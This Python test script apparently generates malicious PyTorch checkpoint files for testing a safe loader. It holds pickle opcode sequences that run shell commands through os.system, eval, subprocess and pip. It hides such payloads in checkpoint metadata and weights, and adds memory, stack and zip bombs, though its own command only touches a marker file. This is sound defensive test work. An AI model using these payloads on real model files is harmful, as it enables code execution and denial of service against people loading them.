"""Checkpoint files that mean harm: code in every place and by every instruction of a pickle, and bombs of all kinds.

    python tests/weights/hostile.py FOLDER

writes them. Those with code hold weights beside it where that is possible, and make the file `marker` if it runs.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import sys
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import torch
from torch import nn


def network() -> nn.Module:
    return nn.Sequential(nn.Linear(2, 4), nn.BatchNorm1d(4), nn.Linear(4, 3))


class Calls:
    """Pickles as a call of `function`."""

    def __init__(self, function: Callable, *args: Any) -> None:
        self.call = function, args

    def __reduce__(self) -> tuple:
        return self.call


def line(text: str) -> bytes:
    return text.encode() + b'\n'


def text(value: str) -> bytes:
    return b'X' + struct.pack('<I', len(value)) + value.encode()


def instructions(command: str) -> dict[str, bytes]:
    """Pickles that run a command, each by another instruction; all end with a value on the stack."""
    run = text(command)
    return {
        'global_reduce': b'cos\nsystem\n(' + run + b'tR',
        'posix_reduce': b'cposix\nsystem\n' + run + b'\x85R',
        'stack_global': b'\x8c\x05posix\x8c\x06system\x93' + run + b'\x85R',
        'dotted_name': b'\x8c\x05torch\x8c\x17serialization.os.system\x93' + run + b'\x85R',
        'inst': b'(' + run + b'ios\nsystem\n',
        'obj': b'(cos\nsystem\n' + run + b'o',
        'newobj': b'csubprocess\nPopen\n' + text('/bin/sh') + b'\x85\x81',
        'newobj_ex': b'csubprocess\nPopen\n((' + text('/bin/sh') + text('-c') + run + b'lt}\x92',
        'eval': b'cbuiltins\neval\n' + text(f'__import__("os").system({command!r})') + b'\x85R',
        'exec_python2': b'c__builtin__\nexecfile\n' + text('/etc/hostname') + b'\x85R',
        'getattr': b'cbuiltins\ngetattr\n(cbuiltins\n__import__\n'
        + text('os')
        + b'\x85R'
        + text('system')
        + b'tR'
        + run
        + b'\x85R',
        'build': b'cposix\nsystem\n}' + text('__setstate__') + b'cposix\nsystem\nsb' + run + b'b',
        'build_on_allowed': b'ccollections\nOrderedDict\n}' + text('__reduce__') + b'cos\nsystem\nsb',
        'build_in_rebuild': b'ctorch._utils\n_rebuild_tensor_v2\n}' + text('_function') + b'cos\nsystem\nsb',
        'persistent_module': b'(' + text('module') + b'cos\nsystem\n' + text('x.py') + text(command) + b'tQ',
        'persistent_code': b'cos\nsystem\n' + run + b'\x85RQ',
        'persistent_text': line('Pos.system'),
        'extension': b'\x82\x01' + run + b'\x85R',
        'map': b'cbuiltins\nlist\n(cbuiltins\nmap\n(cos\nsystem\n(' + run + b'ltRtR',
        'partial': b'cfunctools\npartial\n(cos\nsystem\n' + run + b'tR)R',
        'runpy': b'crunpy\n_run_code\n(' + text('import os') + b'}tR',
        'numpy_runstring': b'cnumpy.testing._private.utils\nrunstring\n(' + text('import os') + b'}tR',
        'torch_load': b'ctorch.serialization\nload\n' + text('/etc/hostname') + b'\x85R',
        'torch_jit': b'ctorch.jit\nload\n' + text('/etc/hostname') + b'\x85R',
        'pip': b'cpip\nmain\n((' + text('install') + text('x') + b'ltR',
    }


def bombs() -> dict[str, bytes]:
    """Pickles that take all memory, all time or the stack of the process; each is a whole one."""
    doubled = b')' + b''.join(b'q' + bytes([i]) + b'h' + bytes([i]) + b'\x86' for i in range(60))
    lists = b']q\x00' + b''.join(
        b'\x8f0]' + b'h' + bytes([i]) + b'ah' + bytes([i]) + b'aq' + bytes([i + 1]) for i in range(60)
    )
    megabyte = text('x' * 2**20)
    wide = b'X' + struct.pack('<I', 2**20 + 4) + '\U0001f600'.encode() + b'x' * 2**20
    return {
        'deep_key': b'}' + b')' + b'\x85' * 200_000 + b'Ns.',
        'deep_lists': b'(' * 300_000 + b'l' * 300_000 + b'.',
        'doubled_key': b'}' + doubled + b'Ns.',
        'doubled_lists': lists + b'.',
        'memo': b'Nr\xff\xff\xff\x7f.',
        'memo_text': line('Np2147483647') + b'.',
        'long_string': b'X\xff\xff\xff\xff' + b'x' * 100 + b'.',
        'long_bytes': b'\x96' + struct.pack('<Q', 2**46) + b'x.',
        'wide_strings': b'(' + wide * 3 + b't.',
        'instructions': b'N0' * 4_000_000 + b'N.',
        'lists': b'(' + b']' * 4_000_000 + b'l.',
        'classes': b'(' + b'ca\nb\n' * 500_000 + b'l.',
        'reduce_chain': b'ccollections\nOrderedDict\nq\x00)q\x01(' + b'h\x00h\x01R' * 400_000 + b'l.',
        'copies': b'c_codecs\nencode\nq\x00('
        + megabyte
        + text('latin1')
        + b'tq\x01('
        + b'h\x00h\x01R' * 40_000
        + b'l.',
        'sets': b'cbuiltins\nset\nq\x00(' + b'K\x01' * 50_000 + b'l\x85q\x01(' + b'h\x00h\x01R' * 40_000 + b'l.',
        'collisions': b'}('
        + b''.join(b'\x8a\x0a' + (i * (2**61 - 1)).to_bytes(10, 'little') + b'N' for i in range(100_000))
        + b'u.',
        'endless_module': b'cx\nNet\n)\x81q\x00}'
        + text('_modules')
        + b'}('
        + text('a')
        + b'h\x00'
        + text('b')
        + b'h\x00usb.',
        'keys': b'}(' + b''.join(text(f'{i}\x1b[31m{"k" * 3000}') + b'N' for i in range(1000)) + b'u.',
    }


def archive(path: Path, data: bytes, **options: Any) -> Path:
    with zipfile.ZipFile(path, 'w', **options) as file:
        file.writestr('archive/data.pkl', data)
        file.writestr('archive/version', '3')
    return path


def with_code(path: Path, code: bytes, protocol: bytes = b'\x80\x04') -> Path:
    """A checkpoint with good weights, and a value that runs code."""
    state = network().state_dict()
    torch.save(dict(state_dict=state, hook='hook'), path)
    with zipfile.ZipFile(path) as file:
        records = {name: file.read(name) for name in file.namelist()}
    name = next(name for name in records if name.endswith('/data.pkl'))
    records[name] = records[name].replace(b'\x80\x02', protocol, 1)
    place = records[name].rindex(text('hook'))
    records[name] = records[name][:place] + code + records[name][place:].replace(text('hook'), b'', 1)
    # what PyTorch memoised there is the value now
    with zipfile.ZipFile(path, 'w') as file:
        for record, content in records.items():
            file.writestr(record, content)
    return path


def places(marker: Path) -> dict[str, Any]:
    """Checkpoints with code in places where a training, a test or a converter may look."""
    evil = Calls(os.system, f'touch {marker}')
    state = network().state_dict()
    net = network()
    net[0].forward_hook = evil
    return {
        'in_meta': dict(state_dict=state, meta=dict(epoch=1, iter=1, x=evil), message_hub={}, optimizer={}),
        'in_message_hub': dict(state_dict=state, meta=dict(epoch=1, iter=1), message_hub=dict(log_scalars=evil)),
        'in_optimizer': dict(
            state_dict=state, meta=dict(epoch=1, iter=1), message_hub={}, optimizer=dict(state={0: evil})
        ),
        'in_weights': dict(state_dict=OrderedDict([*state.items(), ('x', evil)])),
        'as_key_of_lists': dict(state_dict=state, meta=[[[[(evil,)]]]]),
        'in_module': net,
        'alone': evil,
    }


def odd_files(folder: Path) -> Iterator[Path]:
    """Files of other formats, and archives whose directory lies."""
    with tarfile.open(folder / 'tar.pth', 'w') as file:  # torch before 0.1.10
        for name, content in ('sys_info', b''), ('pickle', b'cos\nsystem\n' + text('true') + b'\x85R.'):
            info = tarfile.TarInfo(name)
            info.size = len(content)
            file.addfile(info, io.BytesIO(content))
    yield folder / 'tar.pth'
    torch.jit.save(torch.jit.script(nn.Linear(2, 2)), folder / 'script.pth')
    yield folder / 'script.pth'
    (folder / 'bare_pickle.pth').write_bytes(pickle.dumps(Calls(os.system, 'true'), 2))
    yield folder / 'bare_pickle.pth'
    yield archive(folder / 'deflated.pth', b'\x80\x02' + b'N0' * 50_000_000 + b'N.', compression=zipfile.ZIP_DEFLATED)
    path = archive(folder / 'claims.pth', b'\x80\x02N.')
    data = bytearray(path.read_bytes())
    place = data.index(b'PK\x01\x02')
    data[place + 20 : place + 28] = struct.pack('<II', 2**31, 2**31)
    path.write_bytes(data)
    yield path
    path = archive(folder / 'overlap.pth', b'\x80\x02' + b'N0' * 1000 + b'N.')
    data = bytearray(path.read_bytes())
    place = data.rindex(b'PK\x01\x02')
    data[place + 42 : place + 46] = struct.pack('<I', 0)
    path.write_bytes(data)
    yield path
    with zipfile.ZipFile(folder / 'entries.pth', 'w') as file:
        for number in range(60_000):
            file.writestr(zipfile.ZipInfo(str(number)), b'')
    yield folder / 'entries.pth'
    for name, header in (
        ('header', b'{' + b' ' * (9 * 2**20) + b'}'),
        ('deep_header', b'{"a":' * 100_000),
        ('huge_header', None),
        ('types', json.dumps({'w': dict(dtype='X9', shape=[1], data_offsets=[0, 1])}).encode()),
    ):
        content = struct.pack('<Q', 2**40) + b'{}' if header is None else struct.pack('<Q', len(header)) + header + b'x'
        (folder / f'{name}.safetensors').write_bytes(content)
        yield folder / f'{name}.safetensors'


def write(folder: Path, marker: Path) -> list[Path]:
    """Writes all files."""
    paths = list(odd_files(folder))
    for name, code in instructions(f'touch {marker}').items():
        paths.append(with_code(folder / f'{name}.pth', code))
    for name, data in bombs().items():
        paths.append(archive(folder / f'bomb_{name}.pth', b'\x80\x04' + data))
    for name, content in places(marker).items():
        for legacy in (False, True):
            paths.append(folder / f'{name}{"_legacy" * legacy}.pth')
            torch.save(content, paths[-1], _use_new_zipfile_serialization=not legacy)
    return paths


if __name__ == '__main__':
    print(*write(Path(sys.argv[1]), Path(sys.argv[1], 'marker').absolute()), sep='\n')
